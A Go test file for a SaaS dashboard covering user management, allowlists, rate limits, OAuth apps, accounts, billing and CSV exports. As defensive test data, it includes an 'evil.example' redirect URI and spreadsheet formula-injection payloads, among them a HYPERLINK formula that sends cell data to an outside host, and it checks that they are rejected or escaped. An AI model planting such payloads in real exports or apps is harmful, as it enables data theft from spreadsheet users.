package dashboard

import (
	"encoding/json"
	"net/http"
	"path"
	"regexp"
	"strings"
	"testing"
	"time"

	"sluice.dev/sluice/controlplane/accounts"
	"sluice.dev/sluice/controlplane/accounts/billing"
	"sluice.dev/sluice/controlplane/accounts/billing/methods"
	"sluice.dev/sluice/controlplane/accounts/billing/provider/ledger"
	"sluice.dev/sluice/platform/http/paging"
)

// somebody finds a person of an account by their address.
func (b *bundle) somebody(t *testing.T, account, email string) accounts.User {
	t.Helper()
	list, _, err := paging.Rows((&site{Config: b.Config}).team().Page(t.Context(), account, paging.Page{Limit: 50}))
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range list {
		if u.Email == email {
			return u
		}
	}
	return accounts.User{}
}

// People are invited, get another role, and are removed, by the rules of the API.
func TestManagingPeople(t *testing.T) {
	t.Parallel()
	b := setup(t)
	owner := b.person(t, "", "o@example.com", accounts.Owner)
	u, err := accounts.Store{DB: b.db}.UserByEmail(t.Context(), "o@example.com")
	if err != nil {
		t.Fatal(err)
	}
	list := Root + "/people"
	made := owner.send(t, list+"/new", list+"/new", "email", "Ann@Example.com", "role", "admin")
	token := regexp.MustCompile(`inv_[\w-]{43}`).FindString(made.body)
	if made.Code != 200 || token == "" || strings.Contains(owner.get(list).body, token) {
		t.Fatal(made.Code, made.body)
	}
	ann := b.somebody(t, u.Account, "ann@example.com")
	if e := b.audited(t, ann.ID); e.Action != "user.invite" || !strings.HasPrefix(e.Actor, "sess_") {
		t.Errorf("%+v", e)
	}
	if got := owner.send(t, list+"/new", list+"/new", "email", "ann@example.com", "role", "admin"); got.Code != 200 ||
		!strings.Contains(got.body, "has a user with this e-mail address already") || !strings.Contains(got.body, `value="ann@example.com"`) {
		t.Error(got.Code, got.body)
	}
	if got := owner.send(t, list+"/new", list+"/new", "email", "no", "role", "king"); !strings.Contains(got.body, "<code>email</code>") || !strings.Contains(got.body, "<code>role</code>") {
		t.Error(got.body)
	}
	page := list + "/" + ann.ID
	if got := owner.send(t, page, page, "role", "member"); got.Code != 303 || b.somebody(t, u.Account, "ann@example.com").Role != "member" {
		t.Error(got.Code, got.body)
	}
	member := b.person(t, u.Account, "m@example.com", accounts.Member)
	own := list + "/" + u.ID
	for _, path := range []string{list + "/new", own, own + "/remove"} {
		if got := member.get(path); got.Code != 403 || strings.Contains(got.body, `class="ask"`) {
			t.Errorf("%s, a member: %d", path, got.Code)
		}
	}
	if got := owner.send(t, own, own, "role", "member"); got.Code != 200 || !strings.Contains(got.body, "keeps at least one active owner") {
		t.Error(got.Code, got.body)
	}
	if got := owner.send(t, page+"/remove", page+"/remove", "confirm", "ann"); got.Code != 200 || b.somebody(t, u.Account, "ann@example.com").ID == "" {
		t.Error(got.Code, got.body)
	}
	if got := owner.send(t, page+"/remove", page+"/remove", "confirm", "ann@example.com"); got.Code != 303 || b.somebody(t, u.Account, "ann@example.com").ID != "" {
		t.Error(got.Code, got.body)
	}
	if got := owner.get(list + "/add"); got.Code != 403 {
		t.Errorf("an owner adds people with passwords: %d", got.Code)
	}
}

// An operator adds somebody to an account, who signs in at once; the password is on no page.
func TestAddingPeople(t *testing.T) {
	t.Parallel()
	b := setup(t)
	a, err := accounts.Store{DB: b.db}.Create(t.Context(), "Acme", "pro")
	if err != nil {
		t.Fatal(err)
	}
	v, page := b.operator(t), Root+"/people/add"
	short := v.send(t, page+"?account="+a.ID, page, "account", a.ID, "email", "eve@example.com", "role", "owner", "password", "shorty")
	if !strings.Contains(short.body, "<code>password</code> has the wrong length") || strings.Contains(short.body, "shorty") || !strings.Contains(short.body, "eve@example.com") {
		t.Error(short.body)
	}
	got := v.send(t, page+"?account="+a.ID, page, "account", a.ID, "email", "eve@example.com", "role", "owner", "password", "correct horse battery")
	if got.Code != 303 || got.Header().Get("Location") != Root+"/people?account="+a.ID+"&done=saved" {
		t.Fatal(got.Code, got.Header(), got.body)
	}
	if home := b.visitor().signIn(t, "eve@example.com", "correct horse battery").get(Root); !strings.Contains(home.body, "Acme") {
		t.Error(home.body)
	}
}

// An owner shuts nobody out by accident: the address they are at is asked for.
func TestAllowlists(t *testing.T) {
	t.Parallel()
	b := setup(t)
	owner := b.person(t, "", "o@example.com", accounts.Owner)
	page := Root + "/access/allowlist"
	for _, c := range []struct{ addresses, force, want string }{
		{"198.51.100.0/24\nnowhere", "on", "<code>addresses[1]</code> is not an address"},
		{"198.51.100.0/24", "", "shuts out the address that you call from, 192.0.2.1"},
	} {
		if got := owner.send(t, page, page, "addresses", c.addresses, "force", c.force); got.Code != 200 || !strings.Contains(got.body, c.want) || !strings.Contains(got.body, c.addresses) {
			t.Errorf("%q: %d %s", c.addresses, got.Code, got.body)
		}
	}
	if got := owner.send(t, page, page, "addresses", "192.0.2.0/24, 2001:db8::/32"); got.Code != 303 {
		t.Fatal(got.Code, got.body)
	}
	if got := owner.get(Root + "/access"); !strings.Contains(got.body, "<code>192.0.2.0/24</code>") || !strings.Contains(got.body, "2001:db8::/32") || strings.Contains(got.body, "Set a limit") {
		t.Error(got.body)
	}
	if got := owner.send(t, page, page, "addresses", ""); got.Code != 303 || !strings.Contains(owner.get(Root+"/access").body, "there is no allowlist") {
		t.Error(got.Code, got.body)
	}
}

// Operators set limits of an account, and take them away.
func TestLimitsOfAccounts(t *testing.T) {
	t.Parallel()
	b := setup(t)
	v, page, list := b.operator(t), Root+"/access/limit", Root+"/access"
	for _, text := range []string{"0", "many"} {
		if got := v.send(t, page, page, "class", "default", "per_minute", text); got.Code != 200 || !strings.Contains(got.body, "<code>per_minute</code>") || !strings.Contains(got.body, `value="`+text+`"`) {
			t.Error(got.Code, got.body)
		}
	}
	if got := v.send(t, page, page, "class", "default", "per_minute", "1234"); got.Code != 303 || !strings.Contains(v.get(list).body, "1\u202f234") {
		t.Error(got.Code, got.body)
	}
	if e := b.audited(t, "default"); e.Action != "limit.set" || *e.Account != b.seeded.Account {
		t.Errorf("%+v", e)
	}
	if got := v.send(t, list, list+"/limits/default/remove"); got.Code != 303 || !strings.Contains(v.get(list).body, "None of its own") {
		t.Error(got.Code, got.body)
	}
	if got := v.send(t, list, list+"/limits/default/remove"); got.Code != 404 {
		t.Error(got.Code)
	}
	owner := b.person(t, "", "o@example.com", accounts.Owner)
	if got := owner.get(page); got.Code != 403 {
		t.Errorf("an owner: %d", got.Code)
	}
	if got := owner.send(t, list+"/allowlist", list+"/limits/default/remove"); got.Code != 403 {
		t.Errorf("an owner: %d", got.Code)
	}
}

// An application is registered, with a secret that is shown once, and revoked.
func TestManagingApps(t *testing.T) {
	t.Parallel()
	b := setup(t)
	v, list := b.operator(t), Root+"/apps"
	got := v.send(t, list+"/new", list+"/new", "name", " bad ", "redirect_uris", "http://evil.example/x")
	for _, want := range []string{"<code>redirect_uris[0]</code>", "<code>scopes</code> is empty", "http://evil.example/x</textarea>"} {
		if !strings.Contains(got.body, want) {
			t.Errorf("no %s in %s", want, got.body)
		}
	}
	made := v.send(t, list+"/new", list+"/new", "name", "Planner", "redirect_uris", "https://app.example/cb\nhttp://127.0.0.1/cb", "scopes", "streams:read")
	secret, id := regexp.MustCompile(`slc_[\w-]{43}`).FindString(made.body), regexp.MustCompile(`app_[0-9a-z]{13}`).FindString(made.body)
	if made.Code != 200 || secret == "" || id == "" {
		t.Fatal(made.Code, made.body)
	}
	page := list + "/" + id
	for _, path := range []string{list, page} {
		if shown := v.get(path).body; strings.Contains(shown, secret) || !strings.Contains(shown, "Planner") {
			t.Errorf("%s: %s", path, shown)
		}
	}
	if got := v.send(t, page+"/revoke", page+"/revoke", "confirm", "planner"); got.Code != 200 || v.get(page).Code != 200 {
		t.Error(got.Code, got.body)
	}
	if got := v.send(t, page+"/revoke", page+"/revoke", "confirm", "Planner"); got.Code != 303 || v.get(page).Code != 404 || !strings.Contains(v.get(list).body, "revoked") {
		t.Error(got.Code, got.body)
	}
	if got := v.send(t, list+"/new", list+"/new", "name", "Phone", "public", "on", "redirect_uris", "com.example.phone:/cb", "scopes", "streams:read"); got.Code != 303 {
		t.Error(got.Code, got.body)
	}
}

// Operators create accounts, name them anew, and move them to other plans.
func TestManagingAccounts(t *testing.T) {
	t.Parallel()
	b := setup(t)
	v, list := b.operator(t), Root+"/accounts"
	if got := v.send(t, list+"/new", list+"/new", "name", "", "plan", "gold"); got.Code != 200 || !strings.Contains(got.body, "<code>name</code>") {
		t.Error(got.Code, got.body)
	}
	if got := v.send(t, list+"/new", list+"/new", "name", "Acme", "plan", "gold"); got.Code != 200 || !strings.Contains(got.body, "<code>plan</code> is not a known plan") || !strings.Contains(got.body, `value="Acme"`) {
		t.Error(got.Code, got.body)
	}
	made := v.send(t, list+"/new", list+"/new", "name", "Acme", "plan", "free")
	page, _, _ := strings.Cut(made.Header().Get("Location"), "?")
	if made.Code != 303 || !strings.HasPrefix(page, list+"/acct_") || !strings.Contains(v.get(list).body, page) {
		t.Fatal(made.Code, made.Header(), made.body)
	}
	id := strings.TrimPrefix(page, list+"/")
	if got := v.get(page); !strings.Contains(got.body, "/dashboard/people?account="+id) {
		t.Error(got.body)
	}
	if got := v.send(t, page, page, "name", "Acme & Co", "plan", "pro"); got.Code != 303 {
		t.Fatal(got.Code, got.body)
	}
	a, err := accounts.Store{DB: b.db}.Get(t.Context(), id)
	if err != nil || a.Name != "Acme & Co" || a.Plan != "pro" {
		t.Error(a, err)
	}
	if e := b.audited(t, id); e.Action != "account.update" || !strings.HasPrefix(e.Actor, "sess_") {
		t.Errorf("%+v", e)
	}
	if got := v.get(list + "/acct_0000000000000"); got.Code != 404 {
		t.Error(got.Code)
	}
}

// No cell of an export is a formula to a spreadsheet.
func TestCellsAreNoFormulas(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"": "", "Plan pro": "Plan pro", "2026-10-01": "2026-10-01", "a=1": "a=1", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "\x80": "\x80",
	} {
		if got := plainCell(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// An account sees what it owes, takes it home, and changes its plan among those on offer.
func TestBilling(t *testing.T) {
	t.Parallel()
	b := setup(t)
	owner := b.person(t, "", "o@example.com", accounts.Owner)
	u, err := accounts.Store{DB: b.db}.UserByEmail(t.Context(), "o@example.com")
	if err != nil {
		t.Fatal(err)
	}
	day := billing.Date{Time: time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)}
	store := billing.Store{DB: b.db}
	err = store.Import(t.Context(), u.Account, []billing.Invoice{{Number: "R-1/2", Status: "open", Currency: "EUR", Amount: 123456, PeriodStart: day, PeriodEnd: day, IssuedAt: day.Time, DueAt: time.Now().Add(time.Hour)}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := (methods.Store{DB: b.db, Provider: ledger.Ledger{}}).Add(t.Context(), u.Account, "pm_1", false); err != nil {
		t.Fatal(err)
	}
	page := owner.get(Root + "/billing").body
	link := regexp.MustCompile(`/dashboard/billing/invoices/inv_\w+`).FindString(page)
	for _, want := range []string{"1\u202f234.56 EUR", "R-1/2", "default</span>", "charges nobody", "Change plan"} {
		if !strings.Contains(page, want) {
			t.Errorf("no %s in %s", want, page)
		}
	}
	if got := owner.get(link); got.Code != 200 || !strings.Contains(got.body, "the invoice was imported") || strings.Contains(got.body, "Mark as") {
		t.Error(got.Code, got.body)
	}
	csv := owner.get(link + "/download")
	if csv.Code != 200 || csv.Header().Get("Content-Disposition") != `attachment; filename="R-1_2.csv"` || !strings.Contains(csv.body, "R-1_2,open,total,,,2026-10-01,2026-10-01,,,,,123456,EUR\n") {
		t.Error(csv.Code, csv.Header(), csv.body)
	}
	line, err := json.Marshal(billing.Line{Description: `=HYPERLINK("https://a.example/?"&A1)`, Plan: "@pro", Metric: "fee", PeriodStart: day, PeriodEnd: day, Quantity: 1, UnitAmount: "-1", Per: 1, Amount: -100})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.db.Exec(t.Context(), `INSERT INTO invoice_lines (invoice_id, position, line) VALUES ($1, 0, $2)`, path.Base(link), line); err != nil {
		t.Fatal(err)
	}
	if got, want := owner.get(link+"/download").body, `R-1_2,open,"'=HYPERLINK(""https://a.example/?""&A1)",'@pro,fee,2026-10-01,2026-10-01,1,0,-1,1,-100,EUR`+"\n"; !strings.Contains(got, want) {
		t.Errorf("a line with a formula: %s", got)
	}
	if got := b.person(t, "", "x@example.com", accounts.Owner).get(link); got.Code != 404 {
		t.Errorf("another's invoice: %d", got.Code)
	}
	plan := Root + "/billing/plan"
	if got := owner.send(t, plan, plan, "plan", "enterprise"); got.Code != 200 || !strings.Contains(got.body, "<code>plan</code>") {
		t.Error(got.Code, got.body)
	}
	if got := owner.send(t, plan, plan, "plan", "free"); got.Code != 303 {
		t.Error(got.Code, got.body)
	}
	if e := b.audited(t, u.Account); e.Action != "account.update" {
		t.Errorf("%+v", e)
	}
	if got := owner.send(t, plan, link+"/status", "status", "paid"); got.Code != 403 {
		t.Errorf("an owner settles the invoice: %d", got.Code)
	}
	operator, query := b.operator(t), "?account="+u.Account
	if got := operator.send(t, plan+query, plan, "account", u.Account, "plan", "enterprise"); got.Code != 303 || !strings.Contains(operator.get(Root+"/billing"+query).body, "<dd>enterprise</dd>") {
		t.Error(got.Code, got.body)
	}
	if got := operator.send(t, link+query, link+"/status", "account", u.Account, "status", "paid"); got.Code != 303 || !strings.Contains(owner.get(link).body, ">paid</span>") {
		t.Error(got.Code, got.body)
	}
	method := regexp.MustCompile(`/dashboard/billing/methods/paym_\w+/remove`).FindString(page)
	if got := owner.send(t, method, method, "confirm", "wrong"); got.Code != http.StatusOK || !strings.Contains(owner.get(Root+"/billing").body, method) {
		t.Error(got.Code, got.body)
	}
	name := regexp.MustCompile(`Type (.+) to confirm`).FindStringSubmatch(owner.get(method).body)
	if got := owner.send(t, method, method, "confirm", name[1]); got.Code != http.StatusSeeOther || strings.Contains(owner.get(Root+"/billing").body, method) {
		t.Error(got.Code, got.body)
	}
}

func TestMoney(t *testing.T) {
	t.Parallel()
	for want, got := range map[string]string{"12.05 EUR": money(1205, "EUR"), "500 JPY": money(500, "JPY"), "-0.50 USD": money(-50, "USD"), "0.00 USD": money(0, "USD")} {
		if got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
}
